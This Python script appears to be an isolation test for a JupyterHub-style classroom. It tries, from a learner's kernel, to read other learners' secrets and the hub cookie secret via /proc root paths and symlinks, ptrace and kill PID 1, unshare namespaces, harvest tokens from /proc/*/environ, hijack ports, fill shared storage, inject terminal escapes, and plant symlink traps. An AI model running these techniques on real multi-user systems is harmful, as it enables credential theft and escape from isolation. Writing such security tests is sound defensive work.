"""What a learner tries who wants more than a lesson: run in a kernel of a class, with FACTS about the class.

It writes what it got hold of to `got.json` in the learner's folder: by attack, a list that should be empty.
"""

import contextlib
import ctypes
import errno
import json
import os
import pathlib
import signal
import socket
import subprocess
import sys
import urllib.error
import urllib.request

FACTS = json.loads(pathlib.Path("~/facts.json").expanduser().read_text())
HOME = pathlib.Path.home()
CLASS = pathlib.Path(FACTS["class"])


def can_read(path):
    try:
        path = pathlib.Path(path)
        return [path.name, *sorted(os.listdir(path))] if path.is_dir() else bool(path.read_bytes()) or True
    except OSError:
        return False


def read_what_others_have():
    link = HOME / "link"
    link.unlink(missing_ok=True)
    link.symlink_to(CLASS / "learners/ada")
    roots = ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/../../../../../..")
    secrets = [
        CLASS / "learners/ada/secret.txt",
        CLASS / "hub/cookie_secret",
        CLASS / "hub/jupyterhub.sqlite",
    ]
    tried = [f"{root}{secret}" for root in roots for secret in secrets]
    return [path for path in [*tried, link / "secret.txt", "/old", FACTS["log"]] if can_read(path)]


def find_folders_of_others():
    return [name for name in os.listdir(CLASS / "learners") if name != HOME.name] + [
        name for name in os.listdir(CLASS) if name != "learners"
    ]


def change_what_others_run():
    import guidekit

    places = [pathlib.Path(guidekit.__file__).parent, pathlib.Path(FACTS["deploy"]), pathlib.Path(sys.prefix)]
    places += map(
        pathlib.Path, (sys.base_prefix, "/usr/local", "/etc", "/", CLASS, CLASS / "learners", "/dev")
    )
    changed = []
    for place in places:
        try:
            (place / "left-behind").write_text("")  # whether it is there outside is looked at there
            changed += [] if place.is_relative_to("/tmp") else [str(place)]
        except OSError:
            pass
    for name in ("kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory"):
        try:
            with open(f"/proc/sys/{name}", "r+") as file:
                file.write(file.read())
            changed.append(name)
        except OSError:
            pass
    return changed


def see_processes_of_others():
    own = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    return [number for number in FACTS["processes"] if number in own and number > 200] + (
        [] if len(own) < 12 else [len(own)]
    )


def signal_processes_of_others():
    reached = []
    for number in FACTS["processes"]:
        try:
            os.kill(number, 0)
            reached.append(number)
        except OSError:
            pass
    return [number for number in reached if number > 200]


def steer_the_first_process():
    got = []
    for name in ("mem", "environ", "fd/2", "root", "maps"):
        try:
            with open(f"/proc/1/{name}", "rb"):
                got.append(name)
        except OSError:
            pass
    ptrace = ctypes.CDLL(None, use_errno=True).ptrace
    if ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH
        got.append("ptrace")
    with contextlib.suppress(OSError):
        os.kill(1, signal.SIGKILL)  # Linux keeps it from those inside
    return got


def gain_rights():
    libc = ctypes.CDLL(None, use_errno=True)
    status = pathlib.Path("/proc/self/status").read_text().splitlines()
    got = [line for line in status if line.startswith("Cap") and int(line.split()[1], 16)]
    for flags, name in ((0x10000000, "user"), (0x20000, "mount"), (0x20000000, "pid"), (0x40000000, "net")):
        copy = os.fork()
        if copy == 0:
            os._exit(0 if libc.unshare(flags) == 0 else 1)
        if os.waitpid(copy, 0)[1] == 0:
            got.append(f"unshare {name}")
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0 or libc.umount2(b"/proc/sys", 2) == 0:
        got.append("mount")
    return got


def ask_the_fork_server_for_a_process_outside():
    """Ask for a copy that looks at the class; whatever it is told, it must see no more."""
    looks = HOME / "looks.py"
    looks.write_text(f"import os; print(os.listdir({str(CLASS / 'learners')!r}), os.path.exists('/old'))")
    got = []
    for apart in ("", "/", f"{CLASS}:/tmp"):
        for home in (str(HOME), "/", str(CLASS)):
            env = os.environ | {"GUIDEKIT_APART": apart, "HOME": home}
            command = [sys.executable, "-I", "-S", FACTS["deploy"] + "/preload.py", "run", str(looks)]
            done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
            if "ada" in done.stdout + done.stderr:
                got.append([apart, home, done.stdout])
    return got


def find_sockets_of_others():
    got = []
    for folder in (os.path.dirname(os.environ["GUIDEKIT_PRELOAD"]), "/run", "/var/run", "/tmp"):
        for path in pathlib.Path(folder).rglob("*") if os.path.isdir(folder) else ():
            own = str(path).startswith(
                (os.environ["JUPYTER_RUNTIME_DIR"], str(HOME), str(CLASS / "learners"))
            )
            if path.is_socket() and not own and str(path) != os.environ["GUIDEKIT_PRELOAD"]:
                got.append(str(path))
    return got


def find_secrets_in_the_environment():
    named = [name for name in os.environ if "PASSWORD" in name or "PROXY_AUTH" in name]
    for process in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            words = process.read_bytes()
        except OSError:
            continue
        named += [word for word in ("CLASS_PASSWORD", "CONFIGPROXY_AUTH_TOKEN") if word.encode() in words]
    return named


def ask(url, token=""):
    request = urllib.request.Request(url, headers={"Authorization": f"token {token}"} if token else {})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, ""
    except OSError:  # not even a connection
        return 0, ""


def ask_doors_of_others():
    got = []
    for token in ("", os.environ["JUPYTERHUB_API_TOKEN"]):
        for url in FACTS["doors"]:
            status, words = ask(url, token)
            if status == 200:
                got.append([url, words[:80]])
    return got


def connect_elsewhere():
    """Connect to what is not the hub; nothing of it belongs to a lesson."""
    got = []
    for port in FACTS["elsewhere"]:
        with socket.socket() as line:
            if line.connect_ex(("127.0.0.1", port)) == 0:
                got.append(port)
    with socket.socket(socket.AF_UNIX) as line:
        if FACTS["abstract"] and line.connect_ex("\0" + FACTS["abstract"]) == 0:
            got.append(FACTS["abstract"])
    return got


def take_the_port_of_another():
    with socket.socket() as port:
        try:
            port.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            port.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            port.bind(("127.0.0.1", FACTS["port"]))
            port.listen()
            return [FACTS["port"]]
        except OSError:
            return []


def fill_what_all_share():
    full = []
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev"):
        path = pathlib.Path(folder, "large")
        try:
            with path.open("wb") as file:
                for _ in range(80):
                    file.write(bytes(2**20))
            full.append(folder)
        except OSError as error:
            if error.errno not in (errno.ENOSPC, errno.EROFS, errno.EACCES):
                full.append(str(error))
        if path.exists():
            path.unlink()
    return full


def hold_files_of_the_hub():
    held = []
    for path in pathlib.Path("/proc").glob("[0-9]*/fd/*"):
        try:
            target = os.readlink(path)
        except OSError:
            continue
        course = str(pathlib.Path(FACTS["deploy"]).parents[1])
        packages = os.path.realpath(
            sys.prefix
        )  # such as the fonts of a lesson; they need not lie in the course
        fine = (
            str(HOME),
            "/dev/null",
            "/dev/urandom",
            "/proc/",
            "pipe:",
            "socket:",
            "anon_inode:",
            course,
            packages,
        )
        if not target.startswith(fine):
            held.append(f"{path} {target}")
    return held


def write_to_the_terminal_of_the_teacher():
    """Send signs that a terminal obeys to every output; the hub's log must show them as harmless ones."""
    for path in pathlib.Path("/proc").glob("[0-9]*/fd/[12]"):
        try:
            with open(path, "wb", buffering=0) as file:
                file.write(b"\x1b]0;owned\x07\n")
        except OSError:
            pass
    return []


def leave_a_process_behind():
    """Start one that no signal from inside ends; whether it outlives the server is looked at from outside."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        os.execv("/usr/bin/env", ["env", "sleep", "100000"])
    return []


def set_traps_in_the_folder():
    """Replace lessons by links, for whoever copies lessons with more rights."""
    lessons = HOME / "lessons"
    files = sorted(lessons.glob("[0-9]*.ipynb"))
    files[0].unlink()
    files[0].symlink_to(CLASS / "learners/ada/lessons" / files[0].name)
    files[1].unlink()
    files[1].symlink_to(CLASS / "hub/cookie_secret")
    (lessons / "extra").rename(HOME / "was-extra")
    (lessons / "extra").symlink_to(CLASS / "learners/ada")
    (lessons / ".guidekit-lessons.json").unlink()
    (lessons / ".guidekit-lessons.json").symlink_to(CLASS / "hub/jupyterhub.sqlite")
    return []


ATTACKS = (
    read_what_others_have, find_folders_of_others, change_what_others_run, see_processes_of_others,
    signal_processes_of_others, steer_the_first_process, gain_rights,
    ask_the_fork_server_for_a_process_outside, find_sockets_of_others, find_secrets_in_the_environment,
    ask_doors_of_others, connect_elsewhere, take_the_port_of_another, fill_what_all_share,
    hold_files_of_the_hub, write_to_the_terminal_of_the_teacher, leave_a_process_behind,
    set_traps_in_the_folder,
)  # fmt: skip
(HOME / "got.json").write_text(json.dumps({attack.__name__: attack() for attack in ATTACKS}))
